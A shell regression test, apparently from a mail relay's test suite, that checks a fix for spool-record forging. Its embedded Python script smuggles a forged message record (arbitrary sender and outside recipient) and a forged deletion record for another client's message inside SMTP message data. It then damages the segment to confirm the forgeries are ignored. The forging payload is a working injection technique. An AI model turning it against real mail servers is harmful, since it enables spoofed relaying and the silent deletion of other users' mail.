# Found in review: message data can carry forged spool records, and the start-up scan
# accepts them as soon as the record hosting them is damaged (one flipped octet, which
# README says "costs one message") or torn (a crash while it was being written, which
# README says was "never acknowledged" and is dropped). A hostile client chooses the
# forged envelope (any sender, any recipient: relay.domains / relay.networks bypassed)
# and can plant DONE records that erase other clients' acknowledged messages. The fix:
# message data is stored scrambled with a random nonce per record, so what a client sends
# never lies on disk in a shape it chose (the forged records below are in today's format).
. "$(dirname "$0")/lib.sh"
cat > "$T/forge.py" <<'PY'
#!/usr/bin/env python3
"""forge.py PORT VICTIM_QID OUTFILE: send one message (to b@local.test) whose body carries
a forged spool MSG record (envelope chosen by us) and a forged DONE record for VICTIM_QID.
Writes our own message's queue id to OUTFILE."""
import socket, struct, sys, re

def crc32c(data, crc=0):
    crc ^= 0xFFFFFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF

def s(b): return struct.pack("<I", len(b)) + b
def rec(typ, payload):
    h = bytes([typ, 0, 0, 0]) + struct.pack("<I", len(payload))
    return b"RRS1" + h + struct.pack("<I", crc32c(h + payload)) + payload

def clean(b):   # sendable as one DATA line: no CR, no LF
    return b"\r" not in b and b"\n" not in b

def scramble(data, nonce):   # the record format's own keystream (proto/spoolrec.h)
    out = bytearray(data)
    for i in range(len(out)):
        k = (nonce + (i // 8 + 1) * 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFFFFFF
        out[i] ^= (k >> (8 * (i % 8))) & 0xFF
    return bytes(out)

nonce = 0                    # any: the attacker picks its forged record's nonce

def forged_msg():
    global nonce
    for arrival in range(1767225600, 1767225600 + 10000):
        nonce = arrival * 0x10001
        data = b"Subject: forged\r\n\r\nthis envelope was never sent by anyone\r\n"
        p = (s(b"FORGED00000000001") + struct.pack("<QI", arrival, 0) + s(b"ceo@bank.example") +
             s(b"203.0.113.66") + struct.pack("<I", 1) + s(b"anyone@far-away.example") +
             struct.pack("<Q", nonce) + s(scramble(data, nonce)))
        r = rec(1, p)
        # the data inside carries CRLFs: split the record at them; every other octet clean
        if all(clean(x) for x in r.split(b"\r\n")):
            return r
    raise SystemExit("no clean forged MSG")

def forged_done(qid):
    r = rec(2, s(qid.encode()))
    if not all(clean(x) for x in r.split(b"\r\n")):
        raise SystemExit("DONE for %s has a bare CR/LF in its CRC; pick another victim" % qid)
    return r

port, victim, out = int(sys.argv[1]), sys.argv[2], sys.argv[3]
payload = forged_msg() + forged_done(victim)
body = b"Subject: hello\r\n\r\nX" + payload + b"\r\n" + b"padding line\r\n" * 50
assert all(len(l) <= 998 and not l.startswith(b".") for l in body.split(b"\r\n"))
c = socket.create_connection(("127.0.0.1", port)); f = c.makefile("rb"); f.readline()
c.sendall(b"EHLO attacker.example\r\n")
while f.readline()[3:4] != b" ": pass
c.sendall(b"MAIL FROM:<x@attacker.example>\r\nRCPT TO:<b@local.test>\r\nDATA\r\n")
for _ in range(3): f.readline()
c.sendall(body + b".\r\n")
r = f.readline().decode()
m = re.search(r"queued as ([0-9A-V]+)", r)
print(r.strip())
open(out, "w").write(m.group(1) if m else "")
c.sendall(b"QUIT\r\n")
PY
FORGE="python3 $T/forge.py"
rr_config
sed -i 's/^workers: 2$/workers: 1/' "$T/ringrelay.yaml"   # one segment
rr_start
# a victim: an ordinary acknowledged message whose DONE record can be sent as DATA text
for i in $(seq 1 20); do
  out=$(swaks --server 127.0.0.1:$RR_PORT --from v@x.test --to victim@local.test 2>&1)
  victim=$(printf '%s' "$out" | sed -nE 's/.*queued as ([0-9A-V]+).*/\1/p')
  [ -n "$victim" ] || fail "victim not queued: $out"
  $FORGE $RR_PORT "$victim" "$T/attacker" > "$T/forge.out" 2>&1 && break
done
grep -q 'queued as' "$T/forge.out" || fail "attacker message not queued: $(cat "$T/forge.out")"
attacker=$(cat "$T/attacker")
rr_stop
rr_queue --json > "$T/before"
grep -q "\"$victim\"" "$T/before" || fail "victim $victim not listed before any damage"
seg=$(ls "$T"/spool/w0-*.seg | head -1)
cp "$seg" "$T/pristine.seg"
# offset of the attacker's record (walk the records as t_spool_corrupt.sh does)
aoff=$(python3 - "$seg" "$attacker" <<'PY'
import struct, sys
b = open(sys.argv[1], "rb").read(); q = sys.argv[2].encode(); off = 0
while off + 16 <= len(b) and b[off:off + 4] == b"RRS1":
    n = struct.unpack_from("<I", b, off + 8)[0]
    if b[off + 4] == 1 and b[off + 20:off + 20 + len(q)] == q:
        print(off, off + 16 + n); break
    off += 16 + n
PY
)
[ -n "$aoff" ] || fail "attacker record not found in $seg"
set -- $aoff; start=$1; end=$2

check() {  # check WHAT: after the damage, only the attacker's message may be missing
  local listed; listed=$(rr_queue --json)
  local bad=
  printf '%s' "$listed" | grep -q 'far-away.example' && { echo "  $1: a forged message is listed:" >&2; printf '%s\n' "$listed" | grep far-away >&2; bad=1; }
  printf '%s' "$listed" | grep -q "\"$victim\"" || { echo "  $1: acknowledged message $victim is gone (forged DONE)" >&2; bad=1; }
  [ -z "$bad" ] || failed="$failed; $1"
}
failed=
# 1. one flipped octet (bit rot) in the attacker's record header (its CRC field)
python3 -c "
import sys; b=bytearray(open('$T/pristine.seg','rb').read()); b[$start+12]^=1; open('$seg','wb').write(b)"
check "one flipped octet"
# 2. a torn write: the segment ends inside the attacker's record (crash mid-write)
cp "$T/pristine.seg" "$seg"; truncate -s $((end - 100)) "$seg"
check "a torn tail"
[ -z "$failed" ] || fail "damage to the attacker's record $attacker (offset $start) changed what else is listed:$failed"
ok "damage to a record costs that record only"
